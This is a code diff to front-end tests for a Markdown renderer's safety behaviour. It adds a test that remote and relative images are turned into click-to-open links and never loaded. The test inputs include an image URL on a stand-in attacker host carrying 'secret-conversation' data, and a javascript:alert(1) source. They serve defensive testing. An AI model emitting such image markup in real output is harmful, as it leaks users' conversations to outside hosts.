@@ -34,7 +34,7 @@ describe('Markdown safety (web.md §7)', () => {
     expect(hrefs).toEqual(expect.arrayContaining(['https://example.com', 'mailto:a@b.co', '/browse']));
   });
 
-  it('opens external links safely and keeps images private and lazy', () => {
+  it('opens external links safely, draws only embedded images, private and lazy', () => {
     const { container } = renderMarkdown(
       '[x](https://example.com) ![logo](https://example.com/a.png) ![px](data:image/png;base64,iVBOR) ![no](javascript:alert(1))',
     );
@@ -42,14 +42,31 @@ describe('Markdown safety (web.md §7)', () => {
     expect(link).toHaveAttribute('target', '_blank');
     expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
     const images = Array.from(container.querySelectorAll('img'));
-    expect(images.map((img) => img.getAttribute('src'))).toEqual([
-      'https://example.com/a.png',
-      'data:image/png;base64,iVBOR',
-    ]);
+    expect(images.map((img) => img.getAttribute('src'))).toEqual(['data:image/png;base64,iVBOR']);
     for (const img of images) {
       expect(img).toHaveAttribute('referrerpolicy', 'no-referrer');
       expect(img).toHaveAttribute('loading', 'lazy');
     }
+  });
+
+  it('turns remote and relative images into links the reader may open, never loading them (issue 19 defect 9)', () => {
+    const { container } = renderMarkdown(
+      'Answer ![](https://evil.example/?d=secret-conversation) ![chart](/api/v1/x.png) ![logo](https://example.com/a.png "Logo")',
+    );
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    expect(container.innerHTML).not.toMatch(/<img[^>]*evil/);
+    const links = Array.from(container.querySelectorAll('a.md-image-link'));
+    expect(links.map((a) => [a.getAttribute('href'), a.textContent])).toEqual([
+      ['https://evil.example/?d=secret-conversation', 'Image: untitled (evil.example)'],
+      ['/api/v1/x.png', `Image: chart (${window.location.host})`],
+      ['https://example.com/a.png', 'Image: logo (example.com)'],
+    ]);
+    for (const a of links) {
+      expect(a).toHaveAttribute('target', '_blank');
+      expect(a).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+      expect(a).toHaveAttribute('referrerpolicy', 'no-referrer');
+    }
+    expect(links[2]).toHaveAttribute('title', 'Logo');
   });
 
   it('shifts README headings so the page keeps one h1', () => {
